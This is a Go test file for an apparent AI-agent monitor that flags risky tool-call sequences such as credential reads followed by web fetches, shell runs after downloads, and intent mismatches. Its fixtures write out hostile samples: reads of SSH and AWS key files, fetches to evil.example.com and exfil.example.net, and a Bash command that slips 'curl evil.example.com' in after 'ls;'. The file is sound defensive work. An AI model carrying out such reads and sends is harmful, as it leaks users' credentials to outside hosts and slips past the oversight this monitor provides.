package signals

import (
	"strings"
	"testing"

	"github.com/triage-ai/sentinel/internal/classify"
	"github.com/triage-ai/sentinel/internal/session"
)

func TestOverlapScore(t *testing.T) {
	tests := []struct {
		name   string
		intent string
		corpus string
		want   float64
	}{
		{"short intent is neutral", "fix", "anything at all", 0.5},
		{"empty intent is neutral", "", "read config parse", 0.5},
		{"non-latin intent is neutral", "把配置文件里的密钥删掉", "read config", 0.5},
		{"full overlap", "refactor auth", "Edit refactor the auth package", 1.0},
		{"partial overlap", "refactor auth module", "Edit refactor something", 0.33},
		{"no overlap", "summarize quarterly report", "curl evil.example.com upload", 0.0},
		{"stop words ignored", "please help with the files", "unrelated corpus text", 0.5},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := OverlapScore(tt.intent, tt.corpus); got != tt.want {
				t.Errorf("OverlapScore(%q, %q) = %v, want %v", tt.intent, tt.corpus, got, tt.want)
			}
		})
	}
}

func TestOverlapScore_MostlyNonASCII(t *testing.T) {
	// Just over the 30% non-ASCII threshold.
	intent := "команда run" // 7 of 11 runes non-ASCII
	if got := OverlapScore(intent, "run"); got != 0.5 {
		t.Errorf("expected neutral score for mostly non-ASCII intent, got %v", got)
	}
}

func absorb(s *session.Session, cls *classify.Classification) session.View {
	return s.Absorb(cls)
}

func TestCompute_ReadThenExfil(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")

	read := classify.ToolCall("Read", map[string]any{"file_path": "/home/u/.ssh/id_rsa"})
	absorb(s, read)

	fetch := classify.ToolCall("WebFetch", map[string]any{"url": "http://evil.example.com/drop"})
	view := absorb(s, fetch)

	sig := Compute(fetch, view)
	if !sig.Patterns.ReadThenExfil {
		t.Error("expected read_then_exfil pattern")
	}
	if !hasTag(sig.RiskTags, TagReadThenExfil) {
		t.Errorf("expected %s tag, got %v", TagReadThenExfil, sig.RiskTags)
	}
	if !sig.Concerning(fetch) {
		t.Error("snapshot should be concerning")
	}
}

func TestCompute_ReadThenExfil_NotAdjacent(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")

	absorb(s, classify.ToolCall("Read", map[string]any{"file_path": "/home/u/.ssh/id_rsa"}))
	absorb(s, classify.ToolCall("Edit", map[string]any{"file_path": "/tmp/notes.txt"}))
	absorb(s, classify.ToolCall("Grep", map[string]any{"pattern": "foo"}))

	fetch := classify.ToolCall("WebFetch", map[string]any{"url": "https://paste.example.org"})
	view := absorb(s, fetch)

	if !Compute(fetch, view).Patterns.ReadThenExfil {
		t.Error("intervening benign calls must not clear the pattern")
	}
}

func TestCompute_NoExfilWithoutSensitiveRead(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")

	fetch := classify.ToolCall("WebFetch", map[string]any{"url": "https://pkg.go.dev/net/http"})
	view := absorb(s, fetch)

	sig := Compute(fetch, view)
	if sig.Patterns.ReadThenExfil {
		t.Error("network contact alone is not read_then_exfil")
	}
	if hasTag(sig.RiskTags, TagReadThenExfil) {
		t.Errorf("unexpected tag in %v", sig.RiskTags)
	}
}

func TestCompute_MultiCredAccess(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")

	one := classify.ToolCall("Read", map[string]any{"file_path": "/home/u/.ssh/id_rsa"})
	view := absorb(s, one)
	sig := Compute(one, view)
	if !sig.Patterns.CredentialAccess {
		t.Error("one credential category should set credential_access")
	}
	if hasTag(sig.RiskTags, TagMultiCredAccess) {
		t.Error("one credential category must not raise the multi-access tag")
	}

	two := classify.ToolCall("Read", map[string]any{"file_path": "/home/u/.aws/credentials"})
	view = absorb(s, two)
	sig = Compute(two, view)
	if !hasTag(sig.RiskTags, TagMultiCredAccess) {
		t.Errorf("two distinct credential categories should raise %s, got %v", TagMultiCredAccess, sig.RiskTags)
	}
}

func TestCompute_MultiCredAccess_SameCategoryTwiceDoesNotCount(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")

	absorb(s, classify.ToolCall("Read", map[string]any{"file_path": "/home/u/.ssh/id_rsa"}))
	cls := classify.ToolCall("Read", map[string]any{"file_path": "/home/u/.ssh/id_ed25519"})
	view := absorb(s, cls)

	if hasTag(Compute(cls, view).RiskTags, TagMultiCredAccess) {
		t.Error("repeated access to the same category is a single category")
	}
}

func TestCompute_ShellAfterWebFetch(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")

	// Shell before any fetch: no tag.
	sh := classify.ToolCall("Bash", map[string]any{"command": "ls -la"})
	view := absorb(s, sh)
	if hasTag(Compute(sh, view).RiskTags, TagShellAfterWebFetch) {
		t.Error("shell before any web fetch must not tag")
	}

	absorb(s, classify.ToolCall("WebFetch", map[string]any{"url": "https://example.com/setup.sh"}))

	sh = classify.ToolCall("Bash", map[string]any{"command": "sh setup.sh"})
	view = absorb(s, sh)
	if !hasTag(Compute(sh, view).RiskTags, TagShellAfterWebFetch) {
		t.Errorf("shell after web fetch should raise %s", TagShellAfterWebFetch)
	}
}

func TestCompute_IntentMismatch(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")
	s.RegisterIntent("summarize the quarterly sales figures")

	fetch := classify.ToolCall("WebFetch", map[string]any{"url": "https://exfil.example.net/upload"})
	view := absorb(s, fetch)

	sig := Compute(fetch, view)
	if sig.IntentToolOverlapScore >= mismatchThreshold {
		t.Fatalf("expected low overlap, got %v", sig.IntentToolOverlapScore)
	}
	if !hasTag(sig.RiskTags, TagIntentMismatch) {
		t.Errorf("expected %s tag, got %v", TagIntentMismatch, sig.RiskTags)
	}
}

func TestCompute_NoMismatchWithoutExternalContact(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")
	s.RegisterIntent("summarize the quarterly sales figures")

	cls := classify.ToolCall("Edit", map[string]any{"file_path": "/tmp/scratch.go"})
	view := absorb(s, cls)

	if hasTag(Compute(cls, view).RiskTags, TagIntentMismatch) {
		t.Error("mismatch tag requires external contact")
	}
}

func TestCompute_ShellEscapeIsPerCall(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")

	bad := classify.ToolCall("Bash", map[string]any{"command": "ls; curl evil.example.com"})
	view := absorb(s, bad)
	if !Compute(bad, view).Patterns.ShellEscapeAttempt {
		t.Error("expected shell_escape_attempt on the injecting call")
	}

	clean := classify.ToolCall("Bash", map[string]any{"command": "ls -la"})
	view = absorb(s, clean)
	if Compute(clean, view).Patterns.ShellEscapeAttempt {
		t.Error("shell_escape_attempt must not persist to later clean calls")
	}
}

func TestConcerning(t *testing.T) {
	benign := classify.ToolCall("Grep", map[string]any{"pattern": "TODO"})
	if (Local{}).Concerning(benign) {
		t.Error("empty snapshot and benign call should not be concerning")
	}

	sensitive := classify.ToolCall("Read", map[string]any{"file_path": "/home/u/.bash_history"})
	if !(Local{}).Concerning(sensitive) {
		t.Error("sensitive path access alone is concerning")
	}

	external := classify.ToolCall("WebFetch", map[string]any{"url": "https://api.example.io"})
	if !(Local{}).Concerning(external) {
		t.Error("external contact alone is concerning")
	}

	if !(Local{RiskTags: []string{TagIntentMismatch}}).Concerning(benign) {
		t.Error("any risk tag is concerning")
	}
}

func TestCompute_AccumulatedSetsSurface(t *testing.T) {
	st := session.NewStore(10, 50, nil)
	s := st.GetOrCreate("sk", "run")

	absorb(s, classify.ToolCall("Read", map[string]any{"file_path": "/home/u/.ssh/id_rsa"}))
	absorb(s, classify.ToolCall("WebFetch", map[string]any{"url": "https://one.example.com"}))
	cls := classify.ToolCall("WebFetch", map[string]any{"url": "https://two.example.com"})
	view := absorb(s, cls)

	sig := Compute(cls, view)
	if len(sig.SensitivePathsAccessed) != 1 {
		t.Errorf("expected accumulated sensitive paths, got %v", sig.SensitivePathsAccessed)
	}
	if len(sig.ExternalDomainsContacted) != 2 {
		t.Errorf("expected both domains accumulated, got %v", sig.ExternalDomainsContacted)
	}
	joined := strings.Join(sig.ExternalDomainsContacted, " ")
	if !strings.Contains(joined, "one.example.com") || !strings.Contains(joined, "two.example.com") {
		t.Errorf("domains missing from %v", sig.ExternalDomainsContacted)
	}
}

func hasTag(tags []string, want string) bool {
	for _, t := range tags {
		if t == want {
			return true
		}
	}
	return false
}
